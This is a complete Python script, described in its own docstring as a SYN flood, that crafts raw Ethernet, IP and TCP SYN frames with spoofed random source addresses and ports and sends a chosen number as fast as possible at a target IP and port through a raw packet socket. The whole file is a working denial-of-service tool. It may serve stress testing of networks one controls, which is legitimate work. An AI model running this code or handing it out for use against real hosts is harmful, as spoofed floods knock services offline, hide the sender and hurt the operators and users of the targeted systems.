# SPDX-License-Identifier: BSD-3-Clause
"""A SYN flood: `flood.py SEED COUNT IFACE SRC_MAC DST_MAC DST_IP DPORT NETWORK/BITS`.

COUNT SYNs, each from a random address of NETWORK and a random port, as fast as they go out by
IFACE; then prints how many the interface did not take.
"""
import ipaddress
import random
import socket
import struct
import sys
import time

SYN = struct.Struct("!HHIIBBHHHI")  # a TCP header and the MSS option
PSEUDO = struct.Struct("!IIBBH")


def folded(total):
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def words(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def frames(seed, count, macs, dst, dport, network):
    chance = random.Random(seed)
    low, room = int(network[0]) + 1, network.num_addresses - 2
    for _ in range(count):
        src, sport, seq = low + chance.randrange(room), chance.randrange(1024, 65536), \
            chance.getrandbits(32)
        ip = struct.pack("!BBHHHBBHII", 0x45, 0, 44, seq & 0xffff, 0, 64, 6, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", folded(words(ip))) + ip[12:]
        fields = [sport, dport, seq, 0, 0x60, 2, 64240, 0, 0, 0x020405b4]
        fields[7] = folded(words(SYN.pack(*fields)) + words(PSEUDO.pack(src, dst, 0, 6, 24)))
        yield macs + b"\x08\x00" + ip + SYN.pack(*fields)


def main(seed, count, iface, src_mac, dst_mac, dst, dport, network):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    macs = bytes.fromhex((dst_mac + src_mac).replace(":", ""))
    lost = 0
    for frame in frames(seed, int(count), macs, int(ipaddress.ip_address(dst)), int(dport),
                        ipaddress.ip_network(network)):
        try:
            s.send(frame)
        except OSError:  # its queue is full
            lost += 1
            time.sleep(0.001)
    print(lost)


if __name__ == "__main__":
    main(*sys.argv[1:])
